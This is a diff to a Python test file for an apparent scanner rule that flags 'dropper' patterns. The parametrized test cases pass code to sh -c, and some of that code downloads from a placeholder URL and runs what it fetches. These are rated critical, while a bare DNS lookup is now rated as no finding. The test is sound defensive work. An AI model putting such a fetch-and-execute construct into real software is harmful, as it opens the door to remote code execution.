@@ -69,14 +69,18 @@ STARTS = (
 @pytest.mark.parametrize(
     ("words", "severity"),
     [
-        ("['sh', '-c', 'tool --at ' + socket.gethostbyname(name)]", Severity.LOW),
+        ("['sh', '-c', 'tool --at ' + socket.gethostbyname(name)]", None),
+        (
+            "['sh', '-c', socket.gethostbyname(name) + urllib.request.urlopen('http://a.example.invalid/x').read()]",
+            Severity.CRITICAL,
+        ),
         (
             "['sh', '-c', urllib.request.urlopen('http://a.example.invalid/x').read()]",
             Severity.CRITICAL,
         ),
     ],
 )
-def test_the_number_of_a_machine_is_no_code(words: str, severity: Severity) -> None:
+def test_the_number_of_a_machine_is_no_code(words: str, severity: Severity | None) -> None:
     assert worst("dropper", STARTS.format(words=words)) is severity
 
 
